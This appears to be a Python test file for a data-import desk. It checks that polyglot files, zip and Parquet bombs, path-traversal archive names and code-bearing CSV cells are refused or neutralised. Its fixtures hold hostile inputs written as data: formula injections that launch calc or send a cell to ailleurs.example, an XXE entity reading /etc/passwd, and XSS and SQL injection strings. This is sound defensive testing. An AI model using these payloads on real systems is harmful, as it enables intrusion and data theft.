"""Files made to harm: several kinds at once, archives that swell, names that are paths, cells that are code."""

from __future__ import annotations

import csv
import gzip
import io
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from observatory.ingest.deposits import desk
from observatory.ingest.deposits.annotated import annotated
from observatory.ingest.deposits.decisions import Decisions
from observatory.ingest.deposits.depositor import at_the_keyboard
from observatory.ingest.deposits.examination import Examination
from observatory.reports.datasets import dataset, dataset_rows
from observatory.reports.writing import write_csv, write_xlsx
from observatory.settings import load_settings
from observatory.storage import Store, migrate, open_store
from tests.attack.counting import Attempts

SOURCE = "police-municipale-interventions"
HEADER = "date;heure;categorie;origine;lieu\n"
TABLE = (HEADER + "03/04/2026;22h30;tapage;initiative;rue Grande\n").encode()
ROW = {name: [cell] for name, cell in zip(*(row.split(";") for row in TABLE.decode().splitlines()), strict=True)}
HEADS = {
    "a document": b"%PDF-1.7\n",
    "an image": b"GIF89a;\n",
    "another image": b"\x89PNG\r\n\x1a\n",
    "a page": b"<html><script>alert(1)</script>\n",
    "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">\n',
    "entities": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>\n',
    "a script": b"#!/bin/sh\n",
    "a program": b"\x7fELF\x02\x01\x01\n",
    "a program of Windows": b"MZ\x90\x00\n",
    "an archive": b"PK\x03\x04\n",
    "a database": b"SQLite format 3\x00\n",
    "another database": b"\0" * 8 + b"DUCK\n",
    "columns": b"PAR1\n",
}
NAMES = (
    "../../temoin.csv",
    "/etc/temoin.csv",
    "..\\..\\temoin.csv",
    "C:\\temoin.csv",
    "a/../../../temoin.csv",
    "temoin.csv\x00.txt",
    "vsc.\u202eexe.csv",
    "=cmd|' /c calc'!A0.csv",
    "<img src=x onerror=alert(1)>.csv",
    "'; drop table import; --.csv",
    "t" * 400 + ".csv",
    "~/.ssh/authorized_keys.csv",
)
CELLS = (
    "=cmd|' /c calc'!A0",
    '=HYPERLINK("https://ailleurs.example/?"&A1)',
    "+1+cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+9)*cmd|' /c calc'!A0",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "'; drop table account; --",
    "' or '1'='1",
    "$source",
    "{{7*7}}",
    "${7*7}",
    "%s%n%x",
    "../../../etc/passwd",
    "read_text('/etc/passwd')",
)
RUN = ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    opened = open_store(load_settings({"OBSERVATORY_HOME": str(tmp_path_factory.mktemp("files") / "home")}))
    migrate(opened)
    yield opened
    opened.close()


def sent(store: Store, content: bytes, name: str = "depot.csv") -> tuple[Examination, ...]:
    path = store.settings.home.with_name(name)
    path.write_bytes(content)
    return desk.examine(store, path, at_the_keyboard(), Decisions(source=SOURCE))


def refused(seen: Sequence[Examination]) -> bool:
    """Something was answered, and nothing was taken."""
    return bool(seen) and all(one.status == "refused" for one in seen)


def kept(store: Store) -> list[str]:
    folders = (store.settings.archive, store.settings.scratch)
    return [str(path) for folder in folders for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize("head", HEADS, ids=str)
def test_a_file_of_two_kinds_is_not_taken_for_a_table(store: Store, attempts: Attempts, head: str) -> None:
    before = kept(store)
    for content in (HEADS[head] + TABLE, HEADS[head] + gzip.compress(TABLE), gzip.compress(HEADS[head] + TABLE)):
        seen = sent(store, content)
        attempts.repelled(refused(seen), f"{head}: {[one.status for one in seen]}")
        attempts.repelled(kept(store) == before, f"{head} has left {kept(store)}")
    assert attempts.through == []


def test_an_archive_writes_nowhere_else_and_its_names_are_names(store: Store, attempts: Attempts) -> None:
    around = {path for path in store.settings.home.parent.iterdir()}
    for name in NAMES:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(zipfile.ZipInfo(name), TABLE.replace(b"Grande", name[:3].encode().hex().encode()))
        seen = sent(store, out.getvalue(), "envoi.zip")
        assert seen
        for one in seen:
            told = one.file
            harmless = not any(sign in told for sign in ("/", "\\", "\0", "\u202e", "..")) and len(told) <= 200
            attempts.repelled(harmless, f"{name[:30]!r} is told as {told[:40]!r}")
            if one.import_id:
                desk.discard(store, one.import_id, at_the_keyboard())
    attempts.repelled(
        {path for path in store.settings.home.parent.iterdir()} <= around | {_sent(store)}, "a file aside"
    )
    attempts.repelled(not Path(NAMES[1]).exists(), "an absolute path")
    assert attempts.through == []


def _sent(store: Store) -> Path:
    return store.settings.home.with_name("envoi.zip")


def _bombs() -> dict[str, bytes]:
    zeros = b"0" * 30_000_000
    return {
        "a gz": gzip.compress(zeros),
        "a zip": _zip({"a.csv": zeros}),
        "a zip in a zip": _zip({"a.zip": _zip({"a.csv": TABLE})}),
        "a gz in a gz": gzip.compress(gzip.compress(TABLE)),
        "many files": _zip({f"{number}.csv": b"a;b\n1;2\n" for number in range(201)}),
        "a directory without end": _crowded(),
        "a workbook": _zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>", "xl/a.xml": zeros}),
        "a lying size": _zip({"a.csv": zeros}).replace(len(zeros).to_bytes(4, "little"), b"\x10\0\0\0"),
        "cut": _zip({"a.csv": zeros})[:-200],
    }


def _crowded() -> bytes:
    """Two hundred thousand entries of one member, in an end that announces one."""
    one = _zip({"a.csv": TABLE})
    start, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entries = one[start:end] * 200_000
    lying = one[end : end + 12] + len(entries).to_bytes(4, "little") + one[end + 16 :]
    return one[:start] + entries + lying


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_an_archive_that_swells_or_lies_is_refused_and_leaves_nothing(store: Store, attempts: Attempts) -> None:
    before = kept(store)
    for what, content in _bombs().items():
        seen = sent(store, content, "envoi.bin")
        attempts.repelled(refused(seen), f"{what}: {[one.status for one in seen]}")
        attempts.repelled(kept(store) == before, f"{what} has left a file")
    assert attempts.through == []


def _parquet(columns: dict[str, Any]) -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table(columns), out, compression="zstd")
    return out.getvalue()


def _columns() -> dict[str, bytes]:
    """Parquet files: what is announced, unfolded or nested is out of proportion with the bytes."""
    long = pa.DictionaryArray.from_arrays(pa.array([0] * 20_000, pa.int32()), ["y" * 400_000])
    good = _parquet(ROW)
    deep: pa.DataType = pa.int32()
    for _ in range(3000):
        deep = pa.list_(deep)
    return {
        "thirty million rows": _parquet({"a": pa.nulls(30_000_000)}),
        "eight gigabytes of one text": _parquet({"a": long}),
        "a column too deep": _parquet({"a": pa.nulls(1, deep)}),
        "many columns": _parquet({f"a{number}": [1] for number in range(2_001)}),
        "cut": good[:-20],
        "a directory that lies": good[:-8] + (1 << 31).to_bytes(4, "little") + b"PAR1",
        "another kind within": b"PAR1" + TABLE + b"PAR1",
        "a zip within": b"PAR1" + _zip({"a.csv": TABLE}),
    }


def test_columns_that_unfold_out_of_proportion_are_refused_and_leave_nothing(
    store: Store, attempts: Attempts
) -> None:
    before = kept(store)
    for what, content in _columns().items():
        seen = sent(store, content, "envoi.parquet")
        attempts.repelled(refused(seen), f"{what}: {[one.status for one in seen]}")
        attempts.repelled(kept(store) == before, f"{what} has left a file")
    assert attempts.through == []


def test_what_columns_hide_beside_the_table_is_not_kept(store: Store, attempts: Attempts) -> None:
    """Lists, bytes and the notes of the software that wrote the file are screened by nobody."""
    secret = b"ce que personne ne cherche"
    made = pa.table({**ROW, "suite": [[secret.decode()]]})
    out = io.BytesIO()
    pq.write_table(made.replace_schema_metadata({"auteur": secret}), out, compression="none", use_dictionary=False)
    assert secret in out.getvalue()
    [seen] = sent(store, out.getvalue(), "envoi.parquet")
    assert seen.import_id, seen.message
    attempts.repelled(not any(secret in Path(one).read_bytes() for one in kept(store)), "the archive holds it")
    desk.discard(store, seen.import_id, at_the_keyboard())
    assert attempts.through == []


def tables(store: Store) -> int:
    with store.session() as session:
        return int(session.execute("select count(*) as n from duckdb_tables()")[0]["n"])


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


@pytest.mark.parametrize("field", range(5), ids=HEADER.strip().split(";"))
def test_code_in_a_cell_stays_a_text_and_leaves_as_one(
    store: Store, tmp_path: Path, attempts: Attempts, field: int
) -> None:
    """Through the check, the annotated file in both forms, then, where rows are good, publication and the exports."""
    before = tables(store)
    good = TABLE.decode().splitlines()[1].split(";")
    rows = [[*good[:field], f'"{cell.replace(chr(34), chr(34) * 2)}"', *good[field + 1 :]] for cell in CELLS]
    text = HEADER + "\n".join(";".join(row) for row in (good, *rows)) + "\n"
    [seen] = sent(store, text.encode())
    assert seen.import_id, seen.message
    back = annotated(store, seen.import_id, "csv")
    (tmp_path / "retour.xlsx").write_bytes(annotated(store, seen.import_id, "xlsx"))
    desk.publish(store, seen.import_id, at_the_keyboard())
    with (tmp_path / "export.csv").open("w", newline="") as out, _rows(store) as (columns, found):
        write_csv(columns, found, out)
    with _rows(store) as (columns, found):
        write_xlsx(columns, found, tmp_path / "export.xlsx")
    exported = (tmp_path / "export.csv").read_text().splitlines()
    told = [*cells_of(back), *(cell for row in csv.reader(exported) for cell in row)]
    dangerous = [cell for cell in told if cell.startswith(RUN) and not _is_number(cell)]
    for _ in CELLS:
        attempts.repelled(not dangerous, f"{dangerous[:3]} would run")
    for name in ("retour.xlsx", "export.xlsx"):
        attempts.repelled(not _formulas(tmp_path / name), f"{name} holds a formula")
    attempts.repelled(tables(store) == before, "a table has gone")
    desk.undo(store, seen.import_id, at_the_keyboard())
    assert attempts.through == []


def _rows(store: Store):  # type: ignore[no-untyped-def]
    return dataset_rows(store, dataset("events"), {})


def _is_number(cell: str) -> bool:
    return cell.lstrip("+-").replace(",", ".").replace(".", "", 1).isdigit()


def _formulas(path: Path) -> bool:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return any(b"<f>" in archive.read(name) or b"<hyperlink" in archive.read(name) for name in sheets)
